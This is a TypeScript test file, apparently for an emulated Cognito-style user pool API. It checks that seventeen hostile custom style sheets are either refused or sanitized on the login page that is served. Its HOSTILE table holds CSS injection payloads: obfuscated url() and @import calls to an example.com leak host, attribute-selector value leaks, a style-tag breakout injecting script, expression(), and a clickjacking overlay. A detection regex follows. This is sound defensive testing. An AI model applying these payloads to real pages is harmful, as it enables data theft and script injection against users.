import assert from 'node:assert/strict'
import { test } from 'node:test'
import { createUserPoolDomain } from '#src/domain/user-pools/create-user-pool-domain.ts'
import { makePool } from '#test/aws-api/make-pool.ts'
import { openAwsApi } from '#test/aws-api/open-aws-api.ts'

/** One honest declaration, so that a sheet which is taken has something to show. */
const HONEST = '.legalText-customizable{text-transform:uppercase}'

const HOSTILE: Readonly<Record<string, string>> = {
  url: '.background-customizable{background:url(https://example.com/leak)}',
  'url in disguise': '.background-customizable{background:u\\72l(https://example.com/leak)}',
  import: '@import url(https://example.com/leak.css);',
  'import after a comment': '/**/@import/**/"https://example.com/leak.css";',
  'attribute selectors': '.inputField-customizable[value^="a"]{background:url(https://example.com/a)}',
  escapes: '.label-customizable{b\\61 ckground:\\75\\72\\6c(https://example.com/leak)}',
  comments: '.label-customizable{back/**/ground:ur/**/l(https://example.com/leak)}',
  'image-set': '.label-customizable{background:image-set("https://example.com/leak" 1x)}',
  'font-face': '@font-face{font-family:x;src:url(https://example.com/leak)}',
  'custom properties': '.label-customizable{--x:url(https://example.com/leak);background:var(--x)}',
  'end of the element': '.label-customizable{font-family:"</style><script>alert(1)</script>"}',
  expression: '.label-customizable{width:expression(alert(1));behavior:url(x.htc);-moz-binding:url(x)}',
  overlay: '.label-customizable{position:fixed;inset:0;z-index:9;width:9999px;height:9999px;opacity:0;margin:-999px}',
  'stray brace': '.label-customizable{color:red}}body{display:none}',
  charset: '@charset "UTF-7";+ADw-script+AD4-',
  'two hundred kilobytes': `.label-customizable{color:red}${' '.repeat(200_000)}`,
  'leaving the layer': '.label-customizable{color:red}}@layer guard{*{outline:none!important}',
}

test('HP-19 seventeen hostile style sheets are refused, or come to nothing on the page that is served', async (t) => {
  const { domain, url, post } = await openAwsApi(t)
  const { pool, client } = await makePool({ domain })
  await createUserPoolDomain(domain, { UserPoolId: pool.id, Domain: 'people' })
  const taken: string[] = []
  for (const [name, sheet] of Object.entries(HOSTILE)) {
    const { status, json } = await post('SetUICustomization', { UserPoolId: pool.id, CSS: `${HONEST}${sheet}` })
    if (status !== 200) {
      assert.equal(json['__type'], 'InvalidParameterException', name)
      continue
    }
    taken.push(name)
    const page = await (await fetch(`${url}/${pool.id}/login?client_id=${client.id}&response_type=code&redirect_uri=x`)).text()
    const [, href = assert.fail(name)] = /"stylesheets":\["([^"]+)"/.exec(page) ?? []
    const answer = await fetch(new URL(href, url))
    const served = await answer.text()
    assert.ok(served.includes(HONEST), name)
    assert.ok(!/url|import|example|expression|script|<|\\|position|opacity|z-index|9999|-999|!|body\{|guard|--x|htc/i.test(served), `${name}: ${served}`)
    assert.ok(served.startsWith('@layer pool{') && served.endsWith('}') && served.split('{').length === served.split('}').length, name)
    assert.deepEqual([answer.headers.get('content-type'), answer.headers.get('x-content-type-options')], ['text/css; charset=utf-8', 'nosniff'])
  }
  assert.deepEqual([Object.keys(HOSTILE).length, taken.includes('url')], [17, true])
})
